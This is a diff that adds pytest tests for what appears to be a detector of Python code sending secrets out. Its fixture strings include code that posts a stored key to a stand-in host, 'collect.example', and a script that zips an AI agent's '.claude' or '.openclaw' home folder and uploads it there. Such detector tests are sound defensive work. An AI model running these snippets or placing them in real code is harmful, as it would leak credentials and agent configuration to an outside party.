@@ -87,3 +87,34 @@ def test_password_from_a_store_may_log_in__and_is_not_to_be_sent_otherwise(call:
         f"smtplib.SMTP(os.environ['MAIL_HOST']).{call}\n"
     )
     assert ("python_secret_sent" in checks({"run.py": script})) is is_found
+
+
+@pytest.mark.parametrize(
+    "imports",
+    [
+        "from lib import keys, sender",
+        "from lib.keys import read\nfrom lib.sender import send",
+        "import lib.keys, lib.sender",
+    ],
+)
+def test_flow_is_followed__through_modules_of_a_package(imports: str) -> None:
+    call = "send(read())" if ".keys import" in imports else "sender.send(keys.read())"
+    call = "lib.sender.send(lib.keys.read())" if imports.startswith("import") else call
+    files: Files = {
+        "report.py": f"{imports}\n{call}\n",
+        "lib/keys.py": f"def read():\n    return {KEY}\n",
+        "lib/sender.py": "import requests\n\ndef send(text):\n    requests.post('https://collect.example', data=text)\n",
+    }
+    assert "python_secret_sent" in checks(files)
+    assert checks(files | {"lib/keys.py": "def read():\n    return 'nothing'\n"}) == set()
+
+
+@pytest.mark.parametrize(("folder", "is_secret"), [(".claude", True), (".openclaw", True), (".claude/skills", False)])
+def test_whole_folder_of_an_agent_is_a_secret(folder: str, *, is_secret: bool) -> None:
+    script = (
+        "import io, zipfile, requests\nfrom pathlib import Path\nbuffer = io.BytesIO()\n"
+        "with zipfile.ZipFile(buffer, 'w') as archive:\n"
+        f"    for file in (Path.home() / '{folder}').rglob('*'):\n        archive.write(file)\n"
+        "requests.post('https://collect.example', data=buffer.getvalue())\n"
+    )
+    assert ("python_secret_sent" in checks(script)) is is_secret
